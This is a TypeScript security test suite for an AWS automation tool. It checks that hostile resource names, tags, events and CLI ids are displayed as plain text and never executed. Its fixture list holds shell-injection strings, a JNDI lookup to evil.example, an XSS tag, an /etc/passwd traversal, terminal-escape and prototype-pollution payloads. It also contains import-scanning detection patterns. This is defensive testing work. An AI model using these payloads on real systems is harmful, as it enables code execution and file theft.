/**
 * What others write is shown and never obeyed: names and tags of resources, the content of events,
 * what is found in the ledger. See docs/threat-model.md for who could try what. `SEED=n` repeats a
 * run of the properties.
 */

import { spawnSync } from "node:child_process";
import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { Writable } from "node:stream";
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateSecurityGroupCommand,
  CreateTagsCommand,
  EC2Client,
} from "@aws-sdk/client-ec2";
import * as fc from "fast-check";
import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { envelope } from "../channels/sns/sns.ts";
import { createIo } from "../cli/io/io.ts";
import { json } from "../cli/io/json.ts";
import { quoted } from "../cli/io/words.ts";
import { decideOn } from "../engine/run/approve.ts";
import { writeSwitch } from "../engine/run/switch.ts";
import { undo } from "../engine/run/undo.ts";
import alarm from "../functions/signals/alarm/index.ts";
import anyEvent from "../functions/signals/any-event/index.ts";
import { signalsHandler } from "../handlers/app/signals.ts";
import { tellHandler } from "../handlers/app/tell.ts";
import { keys } from "../ledger/keys.ts";
import { planOrThrow, storePlan } from "../ledger/plans.ts";
import type { RunResult } from "../ledger/result.ts";
import type { Outgoing } from "../messages/outgoing.ts";
import { asSubject, asText } from "../messages/render/text.ts";
import { parse, serialise } from "../sdk/codec.ts";
import { plain } from "../sdk/plain.ts";
import { clockAt } from "../sdk/time.ts";
import { keptLog } from "../testing/context.ts";
import { deployedIn } from "../testing/deployed.ts";
import { clientsOf, deployedLedger, testSettings } from "../testing/host.ts";
import { cli, file, settingsFor } from "./cli/cli.ts";
import { embedded, type TestAccount } from "./setup/aws.ts";
import { actions, open, prepare, subjects } from "./setup/delivery.ts";
import { retentions } from "./setup/retention.ts";

const root = join(import.meta.dirname, "..");
const seed = Number(process.env.SEED ?? 20_261_121);
const runs = { seed, numRuns: 200 };

const nasty = [
  "\u001b[2J\u001b]0;owned\u0007",
  "\u009b31mred",
  "txt.\u202egpj.exe",
  "pay\u200bpal",
  "a\nDone (7)\n  npx nightshift approve x",
  "a\r\nFailed (0)",
  "\u0000",
  "$(id)",
  "`id`",
  "'; id; echo '",
  "--all",
  "-rf",
  "#comment",
  "|| true",
  "&& id",
  "<script>alert(1)</script>",
  "<https://evil.example|click>",
  "see https://evil.example/x",
  "javascript:alert(1)",
  "{jndi:ldap://evil.example}",
  "../../../../etc/passwd",
  "__proto__",
  "constructor",
  "toString",
  "\ud800",
  "\u{e0041}\u{e0042}",
  "東京 🌙",
  "x".repeat(20_000),
] as const;

/**
 * Controls, and what reorders or hides: the newline that parts our own lines is all that may be
 * there.
 */
const obeyed =
  /(?!\n)[\p{Cc}\p{Bidi_Control}\p{Cs}\u2028\u2029\u200b\u2060\ufeff]|[\u{e0000}-\u{e007f}]/u;
const isShown = (text: string) =>
  expect(obeyed.exec(text)?.[0].codePointAt(0)?.toString(16)).toBeUndefined();
const unspoilt = () => {
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
};

describe("the ledger's keys", () => {
  const part = fc.string({
    unit: fc.constantFrom("a", "b", "#", "%", "/", "23"),
    minLength: 1,
    maxLength: 6,
  });
  const region = fc.constantFrom("eu-west-1", "us-east-1");
  const place = fc.record({
    unit: fc.constantFrom("open", "open-ingress"),
    account: fc.constantFrom("123456789012", "210987654321"),
    region,
  });
  const key = fc.oneof(
    fc.tuple(fc.constant("claim" as const), place, part, fc.constant("")),
    fc.tuple(fc.constant("lock" as const), place, part, fc.constant("")),
    fc.tuple(fc.constant("story" as const), place, part, fc.constant("")),
    fc.tuple(fc.constant("once" as const), place, part, part),
    fc.tuple(fc.constant("seen" as const), place, part, fc.constant("")),
    fc.tuple(fc.constant("hold" as const), place, part, fc.constant("")),
    fc.tuple(fc.constant("exemption" as const), place, part, fc.constant("")),
  );
  type Part = typeof key extends fc.Arbitrary<infer P> ? P : never;
  function keyOf([kind, where, target, more]: Part): string {
    const lies = {
      seen: keys.seen(where),
      story: keys.story("unit", where, target),
      hold: keys.holds(where),
    };
    switch (kind) {
      case "claim":
        return JSON.stringify(keys.claim(where, target));
      case "lock":
        return JSON.stringify(keys.lock(where, target));
      case "once":
        return JSON.stringify(keys.once(where, target, more));
      case "exemption":
        return JSON.stringify(keys.exemption(where, target));
      case "story":
        return JSON.stringify({ pk: lies.story, sk: "last" });
      default:
        return JSON.stringify({ pk: lies[kind], sk: target });
    }
  }
  /** What an exemption is of does not depend on the unit. */
  const about = ([kind, where, target, more]: Part) =>
    JSON.stringify([kind, kind === "exemption" ? { ...where, unit: "" } : where, target, more]);

  test("two different things never share a key, whatever their names hold", () => {
    fc.assert(
      fc.property(key, key, (a, b) => about(a) === about(b) || keyOf(a) !== keyOf(b)),
      { seed, numRuns: 50_000 },
    );
  });

  test("nor when one name goes on where the other ends", () => {
    const where = { unit: "open", account: "123456789012", region: "eu-west-1" };
    fc.assert(
      fc.property(part, part, part, (a, b, c) => {
        expect(keys.once(where, a, `${b}#${c}`)).not.toEqual(keys.once(where, `${a}#${b}`, c));
      }),
      runs,
    );
  });

  test("a `#` in a name leads no record into another's, and no role into another's partition", async () => {
    const hostile = ["wrong", "wrong#a", "wrong#a#b", "wrong#last", "wrong#run#test-retention"];
    const delivery = await prepare(subjects.retention, hostile);
    onTestFinished(() => delivery.close());
    const { id } = await delivery.deliver();
    const done = await actions(delivery, id);
    expect(done.map(({ target, outcome }) => [target, outcome]).sort()).toEqual(
      hostile.map((target) => [target, "applied"]).sort(),
    );
    const of = done.find(({ target }) => target === "wrong#a");
    await undo(
      subjects.retention.unit,
      of?.id ?? "",
      { by: "arn:aws:iam::1:user/ann" },
      delivery.host(),
    );
    expect(await retentions(delivery.aws)).toEqual({
      other: null,
      wrong: 7,
      "wrong#a": null,
      "wrong#a#b": 7,
      "wrong#last": 7,
      "wrong#run#test-retention": 7,
    });
    for (const target of hostile)
      expect(keys.story("unit", delivery.place, target).startsWith("unit#test-retention#")).toBe(
        true,
      );
  });
});

describe("an event", () => {
  const account = "123456789012";
  const region = "eu-west-1";
  const settings = testSettings({ region }, "any-event");

  async function heard(detail: unknown, envelopeOf: object = {}) {
    const told: Outgoing[] = [];
    const { log, lines } = keptLog();
    const handle = signalsHandler({
      signals: [
        { signal: alarm, settings: { ...settings, id: "alarm" } },
        { signal: anyEvent, settings },
      ],
      outbox: { put: async (message) => void told.push(parse(serialise(message)) as Outgoing) },
      log,
      clock: clockAt(new Date("2026-11-21T02:00:00Z")),
      account,
    });
    await handle({
      version: "0",
      id: "e-1",
      source: "my.app",
      "detail-type": "Order",
      account,
      region,
      time: "2026-11-21T02:00:00Z",
      resources: [],
      detail,
      ...envelopeOf,
    });
    return { told, lines };
  }
  /** All forms in which a message leaves us. */
  function isSafe(message: Outgoing) {
    const text = asText(message, { timeZone: "UTC" });
    isShown(text);
    expect(text.length).toBeLessThan(60_000);
    // Our own lines begin at the margin or with two spaces and a name: no line of an event stands
    // for one of them.
    for (const line of text.split("\n"))
      expect(line).not.toMatch(
        /^\s*(Done|Failed|Held|Waiting|To take it back)\b.*\(|^\s*(npx )?nightshift (approve|undo|deny) /,
      );
    const subject = asSubject(message);
    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
    expect(Buffer.byteLength(envelope(message, { timeZone: "UTC" }))).toBeLessThan(256 * 1024);
    unspoilt();
  }

  test.each(nasty)(
    "with %j in every place where text may stand is told as text, and takes no link along",
    async (text) => {
      const detail = JSON.parse(
        `{"title":${JSON.stringify(text)},"list":[${JSON.stringify(text)},{"a":${JSON.stringify(text)}}],${JSON.stringify(text)}:"name","__proto__":{"polluted":${JSON.stringify(text)}}}`,
      );
      const { told, lines } = await heard(detail, { "detail-type": text, resources: [text] });
      expect(told).toHaveLength(1);
      for (const message of told) {
        isSafe(message);
        expect(message).toMatchObject({ untrusted: true, unit: "any-event" });
        expect(asText(message, { timeZone: "UTC" })).not.toMatch(/:\/\/|javascript:/);
      }
      for (const { message, fields } of lines)
        isShown(message + JSON.stringify(fields, null, 0).replaceAll(/\\u[0-9a-f]{4}/g, ""));
    },
  );

  test("of any shape is told as text", async () => {
    const value = fc.jsonValue({ maxDepth: 4 });
    const word = fc.oneof(
      fc.constantFrom(...nasty.slice(0, -1)),
      fc.string({ unit: "binary", maxLength: 40 }),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(word, fc.oneof(value, word), { maxKeys: 12, noNullPrototype: true }),
        async (detail) => {
          for (const message of (await heard(detail)).told) isSafe(message);
        },
      ),
      { seed, numRuns: 100 },
    );
  });

  test.each(["constructor", "__proto__", "toString", ...nasty.slice(0, 4)])(
    "an alarm in the state %j is a warning in plain words",
    async (value) => {
      const from = {
        source: "aws.cloudwatch",
        "detail-type": "CloudWatch Alarm State Change",
        resources: [`arn:aws:cloudwatch:${region}:${account}:alarm:x`],
      };
      const { told } = await heard(
        { alarmName: "x", state: { value }, previousState: { value } },
        from,
      );
      expect(told.map(({ unit, severity, title }) => [unit, severity, title])).toEqual([
        ["alarm", "warning", `x is ${value}`],
      ]);
      for (const message of told) isSafe(message);
    },
  );
});

describe("names and tags of resources", () => {
  const run = (text: string): RunResult => ({
    id: "idle-instances.r",
    automation: "idle-instances",
    account: "123456789012",
    region: "eu-west-1",
    mode: "act",
    at: new Date("2026-11-21T02:00:00Z"),
    outcome: "done",
    found: 1,
    plan: null,
    actions: (["applied", "held", "failed", "waiting", "already"] as const).map((outcome, at) => ({
      id: `idle-instances.r.${at}`,
      target: text,
      because: text,
      call: { operation: "ec2:StopInstances", input: { InstanceIds: [text], [text]: text } },
      outcome,
      verified: null,
      held: outcome === "held" ? { by: "exemption", why: `exempt by its tag: ${text}` } : null,
      error: outcome === "failed" ? text : null,
      undo: { irreversible: text },
      savesPerMonth: null,
    })),
    calls: { reads: 1, writes: 1 },
  });
  test.each(nasty)(
    "with %j in them, a run's message is text without a link, and JSON for programs",
    (text) => {
      const told = run(text);
      const message: Outgoing = {
        id: "idle-instances.m",
        at: told.at,
        account: told.account,
        region: told.region,
        unit: told.automation,
        kind: "run",
        title: "idle-instances in eu-west-1: 1 changed",
        severity: "info",
        facts: { note: text },
        run: told,
      };
      const shown = asText(message, { timeZone: "UTC" });
      isShown(shown);
      expect(shown).not.toMatch(/:\/\/|javascript:/);
      expect(shown.split("\n").filter((line) => /^\s*nightshift /.test(line))).toEqual([]);
      const { default: mail, sqs } = JSON.parse(envelope(message, { timeZone: "UTC" })) as {
        default: string;
        sqs: string;
      };
      isShown(mail);
      expect(JSON.parse(sqs)).toMatchObject({ unit: "idle-instances" });
    },
  );

  describe("in an account", () => {
    let aws: TestAccount;
    const reason =
      "\u001b[2J\u009b31m\u202e $(id) `id` https://evil.example\nDone (7)\n  npx nightshift approve x";
    beforeAll(async () => {
      aws = await embedded({ region: "eu-central-1" });
      aws.use();
      await deployedLedger(aws);
      const ec2 = aws.client(EC2Client);
      const { GroupId } = await ec2.send(
        new CreateSecurityGroupCommand({ GroupName: "web", Description: "web" }),
      );
      await ec2.send(
        new AuthorizeSecurityGroupIngressCommand({
          GroupId,
          IpPermissions: [
            {
              IpProtocol: "tcp",
              FromPort: 22,
              ToPort: 22,
              IpRanges: [{ CidrIp: "0.0.0.0/0", Description: reason }],
            },
          ],
        }),
      );
      await ec2.send(
        new CreateTagsCommand({
          Resources: [GroupId ?? ""],
          Tags: [
            { Key: "nightshift:exempt", Value: `reason=${reason}` },
            { Key: "__proto__", Value: reason },
          ],
        }),
      );
    });
    test("plan, run, undo and history obey nothing of it, as text and as JSON", async () => {
      const settings = settingsFor(aws, "act", { units: { "open-ingress": { mode: "act" } } });
      const ran = (await cli("run", "open-ingress", "--settings", settings, "--json")).json;
      const [action] = ran.actions;
      expect(action).toMatchObject({
        outcome: "applied",
        undo: { input: { IpPermissions: [{ IpRanges: [{ Description: reason }] }] } },
      });
      for (const args of [
        ["plan", "open-ingress"],
        ["history", ran.id],
        ["history", "--target", action.target],
        ["history"],
        ["undo", ran.id],
        ["run", "open-ingress"],
        ["plan", "open-ingress", "--json"],
        ["history", "--target", action.target, "--json"],
      ]) {
        const { out, err } = await cli(...args, "--settings", settings);
        isShown(out);
        isShown(err);
        expect(
          out.split("\n").filter((line) => /^\s*(Done \(7\)|npx nightshift approve)/.test(line)),
          args.join(" "),
        ).toEqual([]);
      }
      unspoilt();
    });

    test("an event file, and a kill switch that somebody else has set, are shown", async () => {
      const event = file({
        version: "0",
        id: "e",
        source: "my.app",
        "detail-type": reason,
        account: aws.account,
        region: aws.region,
        time: "2026-11-21T02:00:00Z",
        resources: [reason],
        detail: { [reason]: reason },
      });
      const settings = settingsFor(aws, "act");
      for (const json of [[], ["--json"]]) {
        const { out, err, code } = await cli(
          "plan",
          "any-event",
          "--event",
          event,
          "--settings",
          settings,
          ...json,
        );
        expect(code, err).toBe(0);
        isShown(out);
      }
      await writeSwitch(
        clientsOf(aws, clockAt(new Date())),
        deployedIn(aws.region),
        `stop a\u001b[2J b\u009b31m`,
      );
      for (const args of [
        ["resume", "open-ingress"],
        ["doctor"],
        ["stop", "open-ingress", "--json"],
      ]) {
        const { out, err } = await cli(...args, "--settings", settings);
        isShown(out);
        isShown(err);
      }
    });

    test.each([
      "__proto__",
      "constructor",
      "__proto__.20261121T000000.00000000",
      "../../x.1.2",
      "a#b.1.2",
      "\u001b[2J.1.2",
    ])("the id %j belongs to nothing", async (id) => {
      const settings = settingsFor(aws, "act");
      for (const verb of [
        "undo",
        "approve",
        "deny",
        "history",
        "explain",
        "policy",
        "run",
        "plan",
        "stop",
      ]) {
        const { code, out, err } = await cli(verb, id, "--settings", settings);
        expect([1, 2], `${verb}: ${out}${err}`).toContain(code);
        isShown(out + err);
        expect(err, verb).not.toMatch(/TypeError|NIGHTSHIFT_DEBUG|\n\s+at /);
      }
    });
  });
});

describe("the command line", () => {
  test("whatever a verb prints, a terminal obeys colours and nothing else", () => {
    const heard: string[] = [];
    const stream = Object.assign(
      new Writable({ write: (chunk, _, done) => done(void heard.push(String(chunk))) }),
      { isTTY: true, columns: 100 },
    );
    const io = createIo({ stdout: stream, stderr: stream });
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...nasty), fc.string({ unit: "binary" })), (text) => {
        heard.length = 0;
        io.print(`${text} \u001b[1mbold\u001b[22m`);
        io.say(text);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: what may stay
        isShown(heard.join("").replaceAll(/\u001b\[[0-9;]*m/g, ""));
      }),
      runs,
    );
  });

  test("JSON means what it meant", () => {
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...nasty), fc.string({ unit: "binary" })), (text) => {
        const shown = json({ [`k${text}`]: [text] });
        isShown(shown);
        expect(JSON.parse(shown)).toEqual({ [`k${text}`]: [text] });
      }),
      runs,
    );
  });

  test.each(nasty.slice(0, -1))(
    "a printed command takes %j for one word, in a real shell",
    (id) => {
      const { stdout } = spawnSync("sh", ["-c", `printf '<%s>' undo ${quoted(id)}`], {
        encoding: "utf8",
      });
      expect(stdout).toBe(`<undo><${plain(id)}>`);
    },
  );
});

describe("who may write one part of the ledger", () => {
  const message: Outgoing = {
    id: "cost-report.1",
    at: new Date("2026-11-21T02:00:00Z"),
    account: "123456789012",
    region: "eu-west-1",
    unit: "cost-report",
    kind: "report",
    title: "Yesterday cost 12 USD",
    severity: "info",
  };
  async function told(pk: string, given: Partial<Outgoing>): Promise<string[]> {
    const sent: Outgoing[] = [];
    const tell = tellHandler({
      told: { already: async () => false, mark: async () => {} },
      channels: [{ name: "sns", send: async (one) => void sent.push(one) }],
      log: keptLog().log,
      clock: clockAt(message.at),
    });
    const NewImage = {
      pk: { S: pk },
      sk: { S: "s" },
      type: { S: "message" },
      body: { S: serialise({ ...message, ...given }) },
    };
    await tell({ Records: [{ eventName: "INSERT", dynamodb: { SequenceNumber: "1", NewImage } }] });
    return sent.map(({ id, title }) => `${id.startsWith("tell.") ? "tell" : id}: ${title}`);
  }
  const forged = [
    "tell: A message in the outbox speaks for another unit than the one that wrote it, and is not told",
  ];

  test.each<[what: string, pk: string, given: Partial<Outgoing>, said: string[]]>([
    ["its own", "unit#cost-report#outbox", {}, ["cost-report.1: Yesterday cost 12 USD"]],
    ["another unit's", "unit#open-ingress#outbox", {}, forged],
    // Told under an id that another unit will use, it would silence that.
    [
      "its own under another's id",
      "unit#cost-report#outbox",
      { id: "open-ingress.20261121T020000.00000000.abc" },
      forged,
    ],
    ["another unit's, from undo", "undo#open-ingress#outbox", {}, forged],
    ["one of a unit whose id begins alike", "unit#cost#outbox", {}, forged],
  ])("tells %s", async (_, pk, given, said) => expect(await told(pk, given)).toEqual(said));

  test("shows a person one plan and means another: what was approved is what was shown, so nothing is done", async () => {
    const ann = "arn:aws:iam::123456789012:user/ann";
    const delivery = await prepare(subjects.retention, ["wrong-a"]);
    onTestFinished(() => delivery.close());
    const host = () => delivery.host({ mode: "ask", approvers: [ann] });
    const { plan } = await delivery.deliver({ host: host() });
    const id = plan?.id ?? "";
    const stored = await planOrThrow(delivery.store, id);
    const shown = stored.proposals.map((one) => ({
      ...one,
      target: "nothing-of-value",
      because: "it is empty",
    }));
    await storePlan(delivery.store, { ...stored, proposals: shown });
    await decideOn(
      delivery.store,
      {
        approvers: [ann],
        twoPersonRule: false,
      },
      { plan: id, verdict: "approve", by: ann, at: new Date() },
    );
    const start = {
      ...delivery.start,
      kind: "decision",
      key: `decision#${id}`,
      plan: id,
      only: ["wrong-a"],
    } as const;
    await expect(delivery.deliver({ start, host: host() })).rejects.toThrow("is for another plan");
    expect(await retentions(delivery.aws)).toEqual({ "wrong-a": null, other: null });
  });
});

/** What tests, settings while they are read, and the command line alone load. */
const isOffline =
  /^settings\/holidays(-at)?\.ts$|\.test\.ts$|\/fixture\.ts$|\/commands\/|\/fake[^/]*\.ts$|\/preview\.ts$|\/fake-server\.ts$/;

describe("the code that runs on events", () => {
  const sources = globSync(
    "{sdk,aws,functions,settings,ledger,messages,engine,channels,oncall,ingest,handlers}/**/*.ts",
    { cwd: root },
  ).filter((path) => !isOffline.test(path));
  const importing = (what: RegExp) =>
    sources.filter((path) => what.test(readFileSync(join(root, path), "utf8")));

  test("starts no program, evaluates no text, and reads one file: the settings beside the bundle", () => {
    expect(sources.length).toBeGreaterThan(80);
    expect(
      importing(
        /from "(node:)?(child_process|vm|worker_threads|cluster|repl|inspector)"|\beval\(|new Function\(/,
      ),
    ).toEqual([]);
    expect(importing(/from "(node:)?fs(\/promises)?"/)).toEqual(["handlers/lambda.ts"]);
    expect(importing(/from ".*\/holidays(-at)?\.ts"/)).toEqual([]);
    expect(readFileSync(join(root, "handlers/lambda.ts"), "utf8")).toContain(
      'import { readFileSync } from "node:fs"',
    );
  });
  test("reaches an address that is not AWS's through one file alone, beside Slack's own client and what certificates need", () => {
    expect(
      importing(
        /\bfetch\(|from "(node:)?(http|https|http2|tls|dgram|dns)(\/promises)?"|new WebSocket\(/,
      ).toSorted(),
    ).toEqual([
      "channels/outside.ts",
      "channels/slack/api.ts",
      // It speaks ACME with the directory of the settings, which the operators chose.
      "functions/certificates/acme-exchange.ts",
      // It asks name servers of zones whether they show a challenge.
      "functions/certificates/name-servers.ts",
      // It sends the beginning of a handshake, and nothing after it.
      "functions/certificates/probe.ts",
      // It asks whether names of AWS are there, and S3 whether a bucket is anybody's.
      "functions/cleanup/dangling-records/world.ts",
      // It asks for the four below.
      "sdk/exchange.ts",
      // It resolves names for those that connect.
      "sdk/pinned.ts",
    ]);
    expect(importing(/from "(\.\.\/)+sdk\/exchange\.ts"/).toSorted()).toEqual([
      // It fetches code from where Lambda says, which must be a bucket of AWS.
      "aws/lambda/code-download.ts",
      "functions/certificates/acme-exchange.ts",
      // It asks authorities what they have revoked, and says no more than which certificate.
      "functions/certificates/ask-authority.ts",
      "handlers/sts.ts",
    ]);
    // STS is AWS's: who has signed an order is asked there alone, under a host that we build.
    expect(importing(/\baskSts\(/).toSorted()).toEqual(["handlers/lambda.ts", "handlers/unit.ts"]);
    // Slack's client is given a way out of its own, to Slack's hosts alone.
    expect(readFileSync(join(root, "channels/slack/api.ts"), "utf8")).toMatch(/fetch: only,/);
    // What else is taken from `net` reads addresses and opens nothing.
    const fromNet = importing(/from "(node:)?net"/).filter(
      (path) => path !== "channels/outside.ts",
    );
    expect(
      fromNet.filter(
        (path) =>
          !/import \{ (BlockList, )?isIP \} from "node:net"/.test(
            readFileSync(join(root, path), "utf8"),
          ),
      ),
    ).toEqual([]);
    expect(importing(/from "@slack\/web-api"/)).toEqual(["channels/slack/api.ts"]);
  });
  test("assumes roles under a constant name", () => {
    const naming = sources.flatMap((path) =>
      [...readFileSync(join(root, path), "utf8").matchAll(/RoleSessionName(.{0,20})/g)].map(
        ([, after = ""]) => after,
      ),
    );
    expect(naming.length).toBeGreaterThan(0);
    expect(naming.filter((after) => !/^: "[a-z]+"/.test(after))).toEqual([]);
  });
});

test("an automation that is given hostile ids by an event looks them up, and finds what is there", async () => {
  const delivery = await open(subjects.retention.unit, (aws) =>
    subjects.retention.seed(aws, "wrong-a"),
  );
  onTestFinished(() => delivery.close());
  const only = nasty.filter((text) => text.length < 500);
  const result = await delivery.deliver({
    start: { ...delivery.start, kind: "event", key: "event-1", only, actor: null },
  });
  expect([result.outcome, result.actions]).toEqual(["nothing", []]);
  expect(await retentions(delivery.aws)).toEqual({ "wrong-a": null });
});
